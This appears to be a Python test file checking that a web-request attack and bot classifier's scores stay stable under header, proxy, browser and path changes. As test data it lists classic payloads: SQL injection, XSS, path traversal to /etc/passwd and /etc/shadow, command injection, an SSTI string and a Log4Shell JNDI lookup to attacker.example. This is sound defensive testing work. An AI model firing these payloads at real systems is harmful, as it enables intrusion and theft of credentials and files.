"""Invariance of the shipped Clef-flash under changes of *who* and *how*, never of *what*.

A fixed set of people's benign requests (the people cases in ``tests/data/people_cases.jsonl``
and people drawn from the corpus' real browser header sets, a seed no training run uses) and
a fixed set of attacks (well-known payloads in a parameter, a form body, a cookie and a header,
sent from a current browser) go through transformations that a deployment or a client choice
makes without changing what is asked:

- header-name case (lower, upper, title); ``Connection`` absent / keep-alive / close;
  the ``Host`` value; the client address IPv4 <-> IPv6;
- each front proxy's rewriting (``models.corpus.fronts``: nginx, Envoy, HAProxy, Caddy,
  cloud load balancers, Cloudflare);
- the browser swapped for another family with that family's captured header set, fitted to the
  request as that browser sends it (``models.corpus.generate.row(..., family=...)``: the same
  request from another browser; corpus rows only);
- the path replaced by a path of a site the model never saw (query and body kept);
- for attacks, the client swapped between a browser, a library and a scanner (the client's
  headers replaced by a captured browser set or a tool's own set; every other header kept).

Asserted, against the shipped model through the runtime (``OnnxScorer``, onnxruntime CPU, the
file the CPU runtime loads) and the default policy's block threshold (P(attack) >= ``block_attack``; the
policy never blocks on bot-likeness): no benign request moves to block; the
mean |delta score| (P(bad_bot) + P(attack)) of people stays within 0.05 per transformation; the
P(attack) of attacks moves by at most 0.1 (on average over each set, and for every attack blocked
as sent), every attack blocked as sent stays blocked, and all but at most two of the classic
attacks are blocked as sent. The drift
tables are printed (``pytest -s``).
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from gateway import features as feat
from gateway.config import PolicyConfig
from gateway.decider.onnx import OnnxOptions, OnnxScorer
from gateway.features import split
from gateway.verdict import attack_probability, bot_probability

corpus = pytest.importorskip("models.corpus.generate", reason="the corpus generator (models/corpus) builds the browser sets")
from models.corpus import clients, fronts  # noqa: E402

PEOPLE_CASES = Path(__file__).resolve().parents[1] / "data" / "people_cases.jsonl"
SEED = 424242  # no training or calibration run draws this seed
PEOPLE_FROM_CORPUS = 48
CORPUS_ATTACKS = 48
POLICY = PolicyConfig()
MAX_PEOPLE_MEAN_DRIFT = 0.05
MAX_ATTACK_DRIFT = 0.10

Record = dict[str, Any]
# a transformation: the record changed, or None where it does not apply (a variant of a corpus row only)
Transform = Callable[[Record, random.Random], Record | None]

# paths of sites no generator draws (a municipal archive, a research wiki, a ticket shop in Portuguese)
UNSEEN_PATHS = ("/arquivo-municipal/atas/2019/sessao-ordinaria-14", "/wiki/Spezial:Letzte_%C3%84nderungen",
                "/ingressos/teatro-nacional/2025-03-08/plateia-b", "/biblioteca/catalogo/registro/884213",
                "/portal/servicos/segunda-via-iptu", "/lab/notebooks/rna-seq/qc-report-v3", "/~jsmith/teaching/cs101/",
                "/events/2025/berlin-marathon/results")

# well-known payloads (what security write-ups quote), each where attackers put it
CLASSIC_ATTACKS: tuple[tuple[str, str, str, str | None, tuple[tuple[str, str], ...]], ...] = (
    ("sqli-union", "GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", None, ()),
    ("sqli-boolean", "GET", "/search?q=shoes%27%20OR%20%271%27=%271", None, ()),
    ("sqli-sleep", "GET", "/item?id=1;SELECT%20pg_sleep(10)--", None, ()),
    ("sqli-form", "POST", "/login", "username=admin%27--&password=x", (("Content-Type", "application/x-www-form-urlencoded"),)),
    ("xss-script", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, ()),
    ("xss-img", "GET", "/comment?text=%3Cimg%20src=x%20onerror=alert(1)%3E", None, ()),
    ("traversal", "GET", "/download?file=../../../../etc/passwd", None, ()),
    ("traversal-encoded", "GET", "/static?f=..%2F..%2F..%2F..%2Fetc%2Fshadow", None, ()),
    ("cmdi", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", None, ()),
    ("cmdi-subshell", "POST", "/api/tools/lookup", '{"host":"example.com$(id)"}', (("Content-Type", "application/json"),)),
    ("log4shell", "GET", "/api/v1/search?q=$%7Bjndi:ldap://attacker.example/a%7D", None, ()),
    ("ssti", "GET", "/greet?name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", None, ()),
    ("sqli-cookie", "GET", "/account", None, (("Cookie", "session=abc; id=1' OR '1'='1"),)),
    ("xss-referer", "GET", "/", None, (("Referer", "<script>alert(1)</script>"),)),
)

_CHROME = PEOPLE_CASES  # the Chrome header set of the people cases carries the classic attacks


@dataclass
class Scored:
    attack: float
    risk: float

    @property
    def blocked(self) -> bool:
        """The model's block: P(attack) >= the policy's block_attack (bot-likeness challenges, it never blocks)."""
        return self.attack >= POLICY.block_attack


# ---------------------------------------------------------------------------------------------- the fixed sets

def _read(path: Path) -> list[Record]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def _corpus(n: int, keep: Callable[[Record], bool]) -> list[Record]:
    """The first ``n`` corpus rows of run ``SEED`` that ``keep`` accepts, each with its index (for variants)."""
    out: list[Record] = []
    half, mix = corpus.HALVES["all"], corpus.Mix()
    for i in range(n * 20):
        rec = corpus.row(SEED, i, half, mix, 24)
        if keep(rec):
            out.append({**rec, "_index": i})
            if len(out) >= n:
                break
    return out


def _people() -> list[Record]:
    def person(r: Record) -> bool:
        return bool(r["payload_label"] == "benign" and r["client_label"] == "human" and r["client_kind"] == "browser")

    return _read(PEOPLE_CASES) + _corpus(PEOPLE_FROM_CORPUS, person)


def _corpus_attacks() -> list[Record]:
    return _corpus(CORPUS_ATTACKS, lambda r: r["payload_label"] == "attack")


def _chrome_headers() -> list[list[str]]:
    chrome = next(r for r in _read(_CHROME) if r["subtype"].startswith("chrome"))
    return [list(h) for h in chrome["headers"] if h[0].lower() not in ("referer",)] + [["Connection", "keep-alive"]]


def _attacks() -> list[Record]:
    base = _chrome_headers()
    out = []
    for name, method, target, body, extra in CLASSIC_ATTACKS:
        headers = [list(h) for h in base] + [list(h) for h in extra]
        if body is not None:
            headers.append(["Content-Length", str(len(body.encode()))])
        out.append({"id": name, "method": method, "path": target, "http_version": "1.1", "headers": headers, "body": body,
                    "client_ip": "203.0.113.9"})
    return out


# ---------------------------------------------------------------------------------------------- transformations

def _copy(rec: Record) -> Record:
    return {**rec, "headers": [list(h) for h in rec["headers"]]}


def _names(fn: Callable[[str], str]) -> Transform:
    def t(rec: Record, rng: random.Random) -> Record:
        out = _copy(rec)
        out["headers"] = [[fn(n), v] for n, v in out["headers"]]
        return out
    return t


def _connection(value: str | None) -> Transform:
    def t(rec: Record, rng: random.Random) -> Record:
        out = _copy(rec)
        out["headers"] = [h for h in out["headers"] if h[0].lower() != "connection"]
        if value is not None:
            out["headers"].append(["Connection", value])
        return out
    return t


def _host(rec: Record, rng: random.Random) -> Record:
    out = _copy(rec)
    out["headers"] = [[n, "portal.unseen-example.org:8443" if n.lower() == "host" else v] for n, v in out["headers"]]
    return out


def _ip(rec: Record, rng: random.Random) -> Record:
    out = _copy(rec)
    ip = str(rec.get("client_ip") or "")
    out["client_ip"] = "2001:db8:85a3::8a2e:370:7334" if ":" not in ip else "198.51.100.23"
    return out


def _front(front: str) -> Transform:
    def t(rec: Record, rng: random.Random) -> Record:
        out = _copy(rec)
        host = next((v for n, v in out["headers"] if n.lower() == "host"), "www.example.com")
        headers, version = fronts.apply(front, rng, out["headers"], str(out.get("client_ip") or "203.0.113.9"), host,
                                        str(out.get("http_version") or "1.1").removeprefix("HTTP/"))
        out["headers"], out["http_version"] = headers, version
        return out
    return t


# what a client swap replaces: the headers that describe the client (and connection headers); the site's and the
# payload's (Host, Cookie, Referer, Content-*, custom values) are kept
_CLIENT = split.CLIENT_HEADERS | (split.HOP_HEADERS - {"host", "content-length", "transfer-encoding"})


def _with_client(rec: Record, client_headers: list[list[str]]) -> Record:
    out = _copy(rec)
    kept = [h for h in out["headers"] if h[0].lower() not in _CLIENT]
    host = [h for h in kept if h[0].lower() == "host"]
    rest = [h for h in kept if h[0].lower() != "host"]
    client = [list(h) for h in client_headers if h[0].lower() in _CLIENT]
    out["headers"] = host + client + rest
    return out


def _variant(**change: str) -> Transform:
    """The corpus row's client headers as another browser family sends that request (``models.corpus.generate.row``
    with the family changed: a captured set fitted to the request), on the row's own request, payload and history."""
    def t(rec: Record, rng: random.Random) -> Record | None:
        if "_index" not in rec:
            return None
        other = corpus.row(SEED, rec["_index"], corpus.HALVES["all"], corpus.Mix(), 24, **change)
        return _with_client(rec, other["headers"])
    return t


def _browser(family: str) -> Transform:
    """A captured header set of ``family`` in place of the client's (its values as captured: for attacks, whose
    payload input it cannot reach)."""
    def t(rec: Record, rng: random.Random) -> Record:
        half = corpus.HALVES["all"]
        look = clients.browser(rng, family, half.profile_sources, half.ua_sources)
        return _with_client(rec, look.headers)
    return t


def _tool(kind: str) -> Transform:
    def t(rec: Record, rng: random.Random) -> Record:
        half = corpus.HALVES["all"]
        tools = half.libraries if kind == "library" else half.scanners
        look = clients.tool_look(rng, rng.choice(tools), "Mozilla/5.0")
        return _with_client(rec, look.headers)
    return t


def _path(rec: Record, rng: random.Random) -> Record:
    out = _copy(rec)
    target = str(rec.get("path") or "/")
    _, _, query = target.partition("?")
    out["path"] = rng.choice(UNSEEN_PATHS) + (f"?{query}" if query else "")
    return out


COMMON: tuple[tuple[str, Transform], ...] = (
    ("names lower-case", _names(str.lower)), ("names upper-case", _names(str.upper)), ("names title-case", _names(str.title)),
    ("connection absent", _connection(None)), ("connection keep-alive", _connection("keep-alive")),
    ("connection close", _connection("close")), ("host value", _host), ("ipv4 <-> ipv6", _ip),
    *((f"front {f}", _front(f)) for f in fronts.FRONTS if f != "none"),
    ("path of an unseen site", _path),
)
BROWSERS = ("chrome", "edge", "firefox", "safari-mac", "safari-ios", "chrome-android", "samsung", "opera")
PEOPLE_ONLY: tuple[tuple[str, Transform], ...] = tuple((f"browser -> {f}", _variant(family=f)) for f in BROWSERS)
ATTACK_ONLY: tuple[tuple[str, Transform], ...] = (
    ("client -> browser (firefox)", _browser("firefox")), ("client -> browser (safari-ios)", _browser("safari-ios")),
    ("client -> library", _tool("library")), ("client -> scanner", _tool("scanner")),
)



# ---------------------------------------------------------------------------------------------- scoring

@pytest.fixture(scope="module")
def scorer() -> Iterator[OnnxScorer]:
    s = OnnxScorer(OnnxOptions(providers=("cpu",), warmup_runs=1))
    if s.feature_version == feat.V1_VERSION:
        pytest.fail(f"the shipped model {s.label} reads feature version 1: one question, not two kept apart")
    yield s
    s.close()


def _score(scorer: OnnxScorer, records: list[Record]) -> list[Scored]:
    probs = scorer.run_batch([feat.from_record(r) for r in records])
    return [Scored(attack_probability(p), attack_probability(p) + bot_probability(p)) for p in probs]


@dataclass
class Drift:
    name: str
    n: int
    mean: float
    worst: float
    to_block: int
    blocked_after: int
    worst_blocked: float  # the largest |delta| among the requests blocked as sent


def _drift(scorer: OnnxScorer, records: list[Record], transforms: tuple[tuple[str, Transform], ...], attack: bool) -> list[Drift]:
    base = _score(scorer, records)
    out = []
    for i, (name, fn) in enumerate(transforms):
        rng = random.Random(f"{SEED}/{i}/{name}")
        changed = [(b, fn(r, rng)) for r, b in zip(records, base, strict=True)]
        pairs = [(b, c) for b, c in changed if c is not None]
        moved = _score(scorer, [c for _, c in pairs])
        before = [b for b, _ in pairs]
        deltas = [abs((m.attack - b.attack) if attack else (m.risk - b.risk)) for b, m in zip(before, moved, strict=True)]
        out.append(Drift(name, len(pairs), sum(deltas) / len(deltas), max(deltas),
                         sum(1 for b, m in zip(before, moved, strict=True) if m.blocked and not b.blocked),
                         sum(1 for b, m in zip(before, moved, strict=True) if m.blocked and b.blocked),
                         max([d for d, b in zip(deltas, before, strict=True) if b.blocked], default=0.0)))
    return out


def _table(title: str, rows: list[Drift], what: str) -> str:
    lines = [f"{title}: |delta {what}|", f"{'transformation':<32} {'n':>4} {'mean':>7} {'max':>7} {'max blocked':>12} "
             f"{'moved to block':>15} {'still blocked':>14}"]
    lines += [f"{d.name:<32} {d.n:>4} {d.mean:>7.4f} {d.worst:>7.4f} {d.worst_blocked:>12.4f} {d.to_block:>15} {d.blocked_after:>14}"
              for d in rows]
    return "\n".join(lines)


def test_people_hold_under_every_transformation(scorer: OnnxScorer) -> None:
    people = _people()
    assert len(people) >= 40
    rows = _drift(scorer, people, COMMON + PEOPLE_ONLY, attack=False)
    print("\n" + _table(f"people, {scorer.label}", rows, "P(bad_bot)+P(attack)"))
    assert [d.name for d in rows if d.to_block] == []
    assert [(d.name, round(d.mean, 4)) for d in rows if d.mean > MAX_PEOPLE_MEAN_DRIFT] == []


def test_attacks_hold_whoever_sends_them(scorer: OnnxScorer) -> None:
    attacks = _attacks()
    base = _score(scorer, attacks)
    rows = _drift(scorer, attacks, COMMON + ATTACK_ONLY, attack=True)
    blocked = sum(s.blocked for s in base)
    missed = [f"{r['id']} {s.attack:.3f}" for r, s in zip(attacks, base, strict=True) if not s.blocked]
    print("\n" + _table(f"classic attacks, {scorer.label} ({blocked} of {len(base)} blocked as sent; not: {', '.join(missed) or '-'})",
                        rows, "P(attack)"))
    assert blocked >= len(base) - 2  # the set is a floor, not the measure: held-out figures are in the model card
    # P(attack) moves by at most 0.1: on average over the set, and for every attack blocked as sent (a borderline
    # attack the model does not block may move more: its figure is printed, the held-out rates are in the model card)
    assert [(d.name, round(d.mean, 4)) for d in rows if d.mean > MAX_ATTACK_DRIFT] == []
    assert [(d.name, round(d.worst_blocked, 4)) for d in rows if d.worst_blocked > MAX_ATTACK_DRIFT] == []
    # what was blocked stays blocked, wherever the page and whoever the sender
    assert [(d.name, blocked - d.blocked_after) for d in rows if d.blocked_after < blocked] == []


def test_corpus_attacks_hold_whoever_sends_them(scorer: OnnxScorer) -> None:
    attacks = _corpus_attacks()
    base = _score(scorer, attacks)
    blocked = sum(s.blocked for s in base)
    # the path is left alone: a probe's or a path injection's payload is its path
    same_path = tuple((name, fn) for name, fn in COMMON if name != "path of an unseen site")
    rows = _drift(scorer, attacks, same_path + ATTACK_ONLY, attack=True)
    print("\n" + _table(f"corpus attacks, {scorer.label} ({blocked} of {len(base)} blocked as sent)", rows, "P(attack)"))
    # P(attack) moves by at most 0.1: on average over the set, and for every attack blocked as sent (a borderline
    # attack the model does not block may move more: its figure is printed, the held-out rates are in the model card)
    assert [(d.name, round(d.mean, 4)) for d in rows if d.mean > MAX_ATTACK_DRIFT] == []
    assert [(d.name, round(d.worst_blocked, 4)) for d in rows if d.worst_blocked > MAX_ATTACK_DRIFT] == []
    # what was blocked stays blocked: the transformations change who sends it, never what it carries
    assert [(d.name, blocked - d.blocked_after) for d in rows if d.blocked_after < blocked] == []


def test_payload_input_never_sees_the_client() -> None:
    """By construction: swapping the client, a front or the connection leaves the payload input as it was."""
    attacks = _attacks()
    for name, fn in COMMON + ATTACK_ONLY:
        if name == "path of an unseen site":
            continue
        rng = random.Random(f"{SEED}/{name}")
        for rec in attacks:
            before = feat.split_input(feat.from_record(rec))
            after = feat.split_input(feat.from_record(fn(rec, rng)))
            assert (after.text, after.numeric) == (before.text, before.numeric), (name, rec["id"])


def test_client_input_never_sees_the_payload() -> None:
    """By construction: the same client asking for different things has one client input (and one cached answer)."""
    people = _read(PEOPLE_CASES)
    for rec in people:
        keys = {feat.split_input(feat.from_record({**rec, "path": target, "method": m, "body": b})).client_key()
                for target, m, b in (("/", "GET", None), ("/search?q=%27%20OR%201=1--", "GET", None),
                                     ("/login", "POST", "user=a&pass=%3Cscript%3E"))}
        assert len(keys) == 1, rec["id"]
